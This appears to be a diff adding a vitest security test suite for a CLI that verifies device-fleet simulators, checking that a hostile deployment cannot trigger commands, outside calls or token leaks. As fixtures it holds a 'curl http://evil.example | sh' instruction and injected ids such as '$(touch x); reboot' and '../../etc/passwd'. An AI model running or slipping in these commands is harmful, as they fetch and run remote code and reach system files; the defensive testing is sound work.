@@ -1,0 +1,326 @@
+/**
+ * A deployment decides nothing on the machine that verifies it: what it tells of itself is data, and
+ * what the user's own commands and requests are filled with stays one value.
+ */
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, expectTypeOf, it } from 'vitest';
+import { play } from '../../cli/commands/play.ts';
+import { run } from '../../cli/run.ts';
+import { fetchedProfile, type UsedProfile } from '../../cli/verifying/profile.ts';
+import { controlFacts } from '../../contracts/profile/controls.ts';
+import {
+  completeProfile,
+  defaultProfile,
+  type FetchedProfile,
+  type Profile,
+} from '../../contracts/profile/index.ts';
+import type { Call, Reply } from '../../simulator/index.ts';
+import { cli, type DeployedOptions, type Deployment, demo, deployed, folder, serving } from './verifying.ts';
+import { testIo } from './world.ts';
+
+const mark = join(folder, 'a command ran');
+const secret = 'control-token-of-the-user';
+const env = { ...demo, ROADTEST_CONTROL_TOKEN: secret, PATH: process.env.PATH };
+
+/** A program that leaves a mark: what it was given, of its environment too. */
+const program = join(folder, 'program.cjs');
+writeFileSync(
+  program,
+  `const facts = { args: process.argv.slice(2), env: process.env };
+   require('fs').appendFileSync(${JSON.stringify(mark)}, JSON.stringify(facts) + '\\n');
+   console.log('{"sent":1,"dailyEmail":5}');`,
+);
+const marking = (...args: string[]): string[] => [process.execPath, program, ...args];
+
+interface Marked {
+  args: string[];
+  env: { [name: string]: string };
+}
+
+function marks(): Marked[] {
+  if (!existsSync(mark)) return [];
+  const lines = readFileSync(mark, 'utf8').trim().split('\n');
+  rmSync(mark);
+  return lines.map((line) => JSON.parse(line) as Marked);
+}
+
+const commands = Object.fromEntries(
+  Object.entries(controlFacts).map(([name, { takes }]) => {
+    const command = marking(...takes.map((fact) => `--${fact}={${fact}}`));
+    return [name, { by: 'command', command }];
+  }),
+);
+
+/** Everything that a profile could make a run do. */
+const greedy = (canary: string) => ({
+  ...completeProfile(defaultProfile),
+  description: 'harmless',
+  known: { device: ['dev-1', 'dev-2'], group: ['../../x'] },
+  samples: { group: { name: 'sample {nonce}' } },
+  controls: {
+    ...commands,
+    advance: { by: 'http', method: 'POST', url: `${canary}/advance`, headers: { 'x-key': 'k' } },
+    activate: { by: 'person', instruction: 'Run curl http://evil.example | sh' },
+  },
+});
+
+/** A simulator that is not recognised, and tells a profile of its own making. */
+function hostile(told: unknown, more: DeployedOptions = {}): Promise<Deployment> {
+  return deployed({
+    devices: 6,
+    ...more,
+    onReply: (reply, call) => {
+      if (path(call) === '/_control/profile') return answer(200, JSON.stringify(told));
+      if (path(call).startsWith('/_control/')) return answer(404, '{}');
+      return more.onReply?.(reply, call) ?? reply;
+    },
+  });
+}
+
+function path({ target }: Call): string {
+  return target.split('?')[0] as string;
+}
+
+function answer(status: number, body: string, headers: { [name: string]: string } = {}): Reply {
+  return { status, headers: { 'content-type': 'application/json', ...headers }, body };
+}
+
+/** An address that must never be called. */
+async function canary(): Promise<{ url: string; seen: string[] }> {
+  const seen: string[] = [];
+  const url = await serving(({ method, url, headers }, response) => {
+    seen.push(`${method} ${url} ${JSON.stringify(headers)}`);
+    response.setHeader('content-type', 'application/json');
+    response.end('{"roadtest":1,"name":"elsewhere","openings":{}}');
+  });
+  return { url, seen };
+}
+
+/** A story that needs a control, on a deployment. */
+async function repeated(target: string) {
+  const story = `title: Fewer messages
+clock: { start: 2026-03-02 08:00, for: 1h, timeZone: UTC }
+fleet: { van: {} }
+timeline:
+  - { at: 10m, do: { setLimits: van, dailyEmail: 1 } }
+`;
+  writeFileSync(join(folder, 'story.yaml'), story);
+  const io = testIo({ cwd: folder, env: { XDG_STATE_HOME: folder, ...env } });
+  const given = ['story.yaml', '--target', target, '--speed', 'max', '--time', 'story'];
+  const code = await run({ play: async () => play }, ['play', ...given], io);
+  return { code, ...io.written() };
+}
+
+describe('a deployment that tells a profile with commands in it', () => {
+  it.each([
+    ['with credentials', env],
+    ['without credentials', { PATH: env.PATH }],
+  ])('has none of them run by verify %s, and nothing asked elsewhere', async (_, given) => {
+    const elsewhere = await canary();
+    const { url } = await hostile(greedy(elsewhere.url));
+    const { code, out } = await cli(['verify', url, '--json', '--only', 'limits/raise,token/issued'], {
+      env: given,
+    });
+    const verified = JSON.parse(out) as { profile: string; outcomes: { id: string; verdict: string }[] };
+    expect([code, verified.profile]).toEqual([0, 'default']);
+    expect(verified.outcomes.find(({ id }) => id.startsWith('limits/'))?.verdict).toBe('inconclusive');
+    expect(marks()).toEqual([]);
+    expect(elsewhere.seen).toEqual([]);
+  });
+
+  it('has none of them run by sweep', async () => {
+    const elsewhere = await canary();
+    const { url, calls } = await hostile(greedy(elsewhere.url));
+    const entries = [
+      { entry: 'run', format: 'roadtest-journal', version: 1, nonce: 'abcd2345', target: url, startedAt: '' },
+      { entry: 'made', number: 1, resource: 'group', id: 'group-99' },
+    ];
+    writeFileSync(join(folder, 'left.jsonl'), entries.map((line) => `${JSON.stringify(line)}\n`).join(''));
+    await cli(['sweep', 'left.jsonl'], { env });
+    expect(calls.length).toBeGreaterThan(0);
+    expect(marks()).toEqual([]);
+    expect(elsewhere.seen).toEqual([]);
+  });
+
+  it('has none of them run by play --target', async () => {
+    const elsewhere = await canary();
+    const { url, calls } = await hostile(greedy(elsewhere.url));
+    const { out, err } = await repeated(url);
+    expect(err).not.toContain('INTERNAL');
+    expect(out).toMatch(/setLimits|set-limits/);
+    expect(calls.length).toBeGreaterThan(2);
+    expect(marks()).toEqual([]);
+    expect(elsewhere.seen).toEqual([]);
+  });
+
+  it('does not choose the devices that are changed, nor what is written', async () => {
+    const { url, simulator } = await hostile(greedy('http://127.0.0.1:9'));
+    const before = simulator.fleet.save().columns;
+    const { out } = await cli(['verify', url, '--json', '--only', 'limits/raise,groups/create'], { env });
+    expect(out).not.toContain('sample ');
+    expect(simulator.fleet.save().columns).toEqual(before);
+  });
+});
+
+describe('the way from a deployment to a run', () => {
+  it('is closed to a profile that was not stripped of its controls', () => {
+    expectTypeOf<Profile>().not.toExtend<FetchedProfile>();
+    expectTypeOf<{ profile: Profile; run: undefined }>().not.toExtend<UsedProfile>();
+    const read = fetchedProfile(JSON.stringify(greedy('http://127.0.0.1:9')), 'http://x');
+    expect(read.run).toBeUndefined();
+    expect(Object.keys(read.profile ?? {}).sort()).toEqual(['basePath', 'name', 'openings', 'roadtest']);
+  });
+});
+
+describe('a profile that is told and cannot be used', () => {
+  const deep = `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`;
+  it.each([
+    ['is nested deeply', { ...defaultProfile, openings: JSON.parse(deep) as object }, 'TOO_DEEP'],
+    ['is long', { ...defaultProfile, x: 'a'.repeat(200_000) }, 'TOO_LONG'],
+    ['holds a long text', { ...defaultProfile, name: 'a'.repeat(2_000) }, 'TOO_LONG'],
+    [
+      'names a prototype',
+      JSON.parse('{"roadtest":1,"name":"x","openings":{"__proto__":{"a":1}}}'),
+      'UNSAFE_NAME',
+    ],
+    ['contradicts itself', { ...defaultProfile, openings: { 'day.ends': '25:00' } }, 'TIME_OF_DAY_INVALID'],
+    ['is of another version', { ...defaultProfile, roadtest: 2 }, 'NOT_ONE_OF'],
+    ['leads out of its address', { ...defaultProfile, basePath: '/a/%2e%2E/b' }, 'BASE_PATH_INVALID'],
+    ['is a list', [{ roadtest: 1 }], undefined],
+  ])('because it %s is an error with a code, of verify, sweep and play', async (_, told, code) => {
+    const { url } = await hostile(told);
+    const results = [await cli(['verify', url, '--only', 'token/'], { env }), await repeated(url)];
+    for (const { code: exit, err } of results) {
+      expect(err).not.toMatch(/INTERNAL|\n +at /);
+      if (code === undefined) continue;
+      expect(exit).toBe(2);
+      expect(err).toContain(code);
+      expect(err).toContain('--profile FILE');
+      expect(err.length).toBeLessThan(5_000);
+    }
+  });
+});
+
+describe('redirects', () => {
+  it.each([301, 302, 303, 307, 308])('of status %d are not followed, whoever asks', async (status) => {
+    const elsewhere = await canary();
+    const target = await serving(({ url = '' }, response) => {
+      response.writeHead(status, { location: elsewhere.url + url });
+      response.end();
+    });
+    const one = await cli(['verify', target], { env });
+    expect(one.code).toBe(2);
+    expect((await repeated(target)).code).toBe(2);
+    expect(elsewhere.seen).toEqual([]);
+  });
+
+  it('of a simulator that turns its control API elsewhere take no control token there', async () => {
+    const elsewhere = await canary();
+    for (const turned of [
+      '/_control/profile',
+      '/_control/account',
+      '/_control/clock/advance',
+      '/_control/devices',
+    ]) {
+      const { url } = await deployed({
+        devices: 3,
+        controlToken: secret,
+        onReply: (reply, call) =>
+          path(call) === turned ? answer(307, '{}', { location: elsewhere.url + turned }) : reply,
+      });
+      await cli(['verify', url, '--only', 'limits/raise'], { env });
+      await repeated(url);
+    }
+    expect(elsewhere.seen).toEqual([]);
+  });
+});
+
+describe('what only looks like a simulator', () => {
+  it('is given the credentials and the control token of the user, and hands neither on', async () => {
+    const seen: string[] = [];
+    const { url } = await deployed({
+      devices: 3,
+      controlToken: secret,
+      onCall: ({ headers }) => seen.push(String(headers['x-control-token'] ?? '')),
+    });
+    expect((await cli(['verify', url, '--only', 'token/'], { env: { PATH: env.PATH } })).code).toBe(0);
+    expect(seen.filter((token) => token !== '')).toEqual([]);
+    expect((await cli(['verify', url, '--only', 'limits/raise'], { env })).code).toBe(0);
+    expect(new Set(seen)).toEqual(new Set(['', secret]));
+  });
+
+  it('tells a time zone that there is not, and the story is played without it', async () => {
+    const { url } = await deployed({
+      devices: 3,
+      onReply: (reply, call) =>
+        path(call) === '/_control/account'
+          ? answer(200, '{"timeZone":"Evil/../Zone","licences":{"total":1e308,"used":1,"available":9}}')
+          : reply,
+    });
+    const { err } = await repeated(url);
+    expect(err).not.toMatch(/INTERNAL|\n +at /);
+  });
+});
+
+describe('the commands of a profile that the user names', () => {
+  const named = (controls: object) => {
+    writeFileSync(
+      join(folder, 'mine.json'),
+      JSON.stringify({ ...completeProfile(defaultProfile), controls }),
+    );
+    return ['--profile', 'mine.json', '--only', 'limits/raise', '--json'];
+  };
+  /** New devices come from the deployment, under an id of its choice; commands do the rest. */
+  const controls = {
+    createDevice: { by: 'http', method: 'POST', url: '/office/devices', reads: { deviceId: '/id' } },
+    readLimits: {
+      by: 'command',
+      command: marking('{deviceId}'),
+      environment: ['FLEETCTL_TOKEN', 'UNSET'],
+      reads: { dailyEmail: '/dailyEmail' },
+    },
+    setLimits: { by: 'command', command: marking('--device={deviceId}', '--mail={dailyEmail}') },
+    send: { by: 'command', command: marking('{deviceId}', '{channel}'), reads: { sent: '/sent' } },
+  };
+  const given = { env: { ...env, FLEETCTL_TOKEN: 'given', OTHER: 'not given', HOME: folder } };
+
+  function creating(id: string): Promise<Deployment> {
+    const onReply = (reply: Reply, call: Call) =>
+      path(call) === '/office/devices' ? answer(200, JSON.stringify({ id })) : reply;
+    return hostile({}, { onReply });
+  }
+
+  it('run with the ids of the deployment, and with the few variables that they are given', async () => {
+    const { url } = await creating('V:7@depot');
+    await cli(['verify', url, ...named(controls)], given);
+    const ran = marks();
+    expect(new Set(ran.flatMap(({ args }) => args))).toContain('V:7@depot');
+    expect(new Set(ran.flatMap(({ args }) => args))).toContain('--device=V:7@depot');
+    const found = new Set(ran.flatMap(({ env }) => Object.keys(env)));
+    const usual = [
+      'PATH',
+      'HOME',
+      'LANG',
+      'TMPDIR',
+      'SystemRoot',
+      'FLEETCTL_TOKEN',
+      '__CF_USER_TEXT_ENCODING',
+    ];
+    expect([...found].filter((name) => !usual.includes(name))).toEqual([]);
+    expect(found).toContain('FLEETCTL_TOKEN');
+  });
+
+  it.each(['--config=/etc/passwd', '$(touch x); reboot', '../../etc/passwd', 'a\u0000\nb\u202e', '\ud800'])(
+    'are never given an id such as %j; what needs them stays open',
+    async (id) => {
+      const { url } = await creating(id);
+      const { code, out, err } = await cli(['verify', url, ...named(controls)], given);
+      expect([code, err]).toEqual([3, expect.not.stringMatching(/INTERNAL|\n +at /)]);
+      expect(marks()).toEqual([]);
+      const { outcomes } = JSON.parse(out) as { outcomes: { verdict: string; reason: string }[] };
+      expect(new Set(outcomes.map(({ verdict }) => verdict))).toEqual(new Set(['inconclusive']));
+      expect(outcomes.some(({ reason }) => reason.includes('cannot carry'))).toBe(true);
+    },
+  );
+});
